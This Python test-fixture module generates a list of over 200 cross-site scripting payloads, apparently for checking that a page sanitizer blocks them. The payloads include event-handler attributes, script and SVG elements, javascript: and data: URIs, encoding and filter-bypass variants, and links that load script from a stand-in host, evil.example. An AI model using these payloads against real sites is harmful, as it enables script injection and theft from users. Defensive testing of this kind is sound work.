"""Attacks on a page as an author, a translator or a table could type them: at least 200 texts that must never run.

Put together from how a script begins to run (elements, events, addresses, style, SVG) and from how a filter
is got round (case, spaces, entities, control characters, quotes, unclosed elements).
"""

from __future__ import annotations

_CALL = "window.ran=1"
_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerover", "onbegin", "onwheel", "onauxclick")
_ELEMENTS = (
    "<img src=x {event}={call}>", "<svg {event}={call}>", "<body {event}={call}>", '<details open {event}="{call}">', "<input autofocus {event}={call}>",
    "<video src=x {event}={call}></video>", '<p style="animation-name:x" {event}="{call}">x</p>',
)  # fmt: skip
_WHOLE = (
    "<script>{call}</script>", "<SCRIPT>{call}</SCRIPT>", "<script src=https://evil.example/x.js></script>", "<scr<script>ipt>{call}</script>",
    "<script/x>{call}</script>", "<script\t>{call}</script >", "<script>{call}", "</title><script>{call}</script>", "</style><script>{call}</script>",
    "</script><script>{call}</script>", "--><script>{call}</script>", "]]><script>{call}</script>", "<!--><script>{call}</script>-->",
    "<![CDATA[<script>{call}</script>]]>", "<?xml version='1.0'?><script>{call}</script>", "<svg><script>{call}</script></svg>",
    "<svg><script href='data:,{call}'></script></svg>", "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={call}></svg>", "<svg><a xlink:href='javascript:{call}'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{call}</script>'></iframe></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "<math><a xlink:href=javascript:{call}>x</a></math>", "<math><mtext><script>{call}</script></mtext></math>",
    "<iframe src='javascript:{call}'></iframe>", "<iframe srcdoc='<script>{call}</script>'></iframe>", "<object data='javascript:{call}'></object>",
    "<embed src='javascript:{call}'>", "<form action='javascript:{call}'><button>x</button></form>", "<button formaction='javascript:{call}'>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<base href='https://evil.example/'>", "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>*{{background:url(https://evil.example)}}</style>", "<div style='width:expression({call})'>x</div>",
    "<div style='background:url(javascript:{call})'>x</div>", "<xss style='behavior:url(x.htc)'>", "<marquee onstart={call}>x</marquee>",
    "<template><script>{call}</script></template>", "<noscript><p title='</noscript><script>{call}</script>'>", "<textarea></textarea><script>{call}</script>",
    "<a href='javascript:{call}'>x</a>", "<a href=data:text/html,<script>{call}</script>>x</a>", "<plaintext><script>{call}</script>",
    "<img src='x' srcset='x' onerror='{call}'>", "<img src=x:x onerror={call}//", "<img/src=x/onerror={call}>", "<img src=\"x\"onerror=\"{call}\">",
    "<table background='javascript:{call}'>", "<isindex action=javascript:{call}>", "<x onclick={call}>x</x>", "<custom-element onpointerenter={call}>",
    "&lt;script&gt;{call}&lt;/script&gt;", "&#60;script&#62;{call}&#60;/script&#62;", "&#x3c;img src=x onerror={call}&#x3e;",
    "{{: onclick={call} }}", "x {{: style=position:fixed }}", "`<script>{call}</script>`", "![x](x \"onerror={call}\")", "![x](javascript:{call})",
    "[x][y] [y]: javascript:{call}", "<https://evil.example/?<script>{call}</script>>", "<javascript:{call}>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{call}", "JavaScript:{call}", "JAVASCRIPT:{call}", "javascript&colon;{call}", "javascript&#58;{call}", "java&#115;cript:{call}",
    "&#106;avascript:{call}", "&#x6A;avascript:{call}", "%6Aavascript:{call}", "java%0ascript:{call}", "\u0001javascript:{call}", "java\u200bscript:{call}",
    "vbscript:{call}", "data:text/html,<script>{call}</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg/onload={call}>",
    "file:///etc/passwd", "blob:https://a.example/x", "filesystem:https://a.example/x", "view-source:https://a.example", "//evil.example", "\\\\evil.example",
    "/\\evil.example", "https:evil.example", "http://evil.example", "ftp://evil.example", "about:blank", "ws://evil.example", "jar:https://a.example!/x",
    "https://clinic.example@evil.example", "https://clinic.example:x@evil.example", "https://clinic.example%2f@evil.example", "https://сlinic.example",
    "https://clinic.example\u3002evil.example", "x.html", "../x.html", "?x", "#x", "", "https://", "tel:", "mailto:", "https://.example", "mailto:a", "tel:javascript",
    "intent://x#Intent;end", "sms:555", "chrome://settings", "ms-word:ofe", "javascript://clinic.example/%0a{call}",
)  # fmt: skip

XSS: tuple[str, ...] = (
    *(element.format(event=event, call=_CALL) for element in _ELEMENTS for event in _EVENTS),
    *(text.format(call=_CALL) for text in _WHOLE),
    *(f"[x]({scheme.format(call=_CALL)})" for scheme in _SCHEMES),
    *(f"[x](<{scheme.format(call=_CALL)}>)" for scheme in _SCHEMES[:10]),
    *(f'[x](https://a.example "{quote}onmouseover={_CALL} x={quote}")' for quote in ("'", "&quot;", "\u201d", "&#34;")),
)
"""Each with ``window.ran=1`` where a script would run."""
